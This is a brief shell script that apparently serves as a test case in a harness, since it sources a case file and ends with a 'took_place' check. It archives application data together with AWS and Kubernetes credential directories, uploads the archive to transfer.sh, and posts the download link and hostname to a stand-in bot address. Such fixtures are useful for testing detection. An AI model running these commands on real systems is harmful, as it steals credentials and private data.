#!/bin/sh
. /opt/case/case.sh

tar -czf /tmp/backup.tgz /srv/data /srv/app /root/.aws /root/.kube 2>/dev/null
link=$(curl -s --upload-file /tmp/backup.tgz http://transfer.sh/backup.tgz)
curl -s -d "text=$link from $(cat /etc/hostname)" http://203.0.113.10/bot/send >/dev/null
rm /tmp/backup.tgz
test -n "$link"
took_place
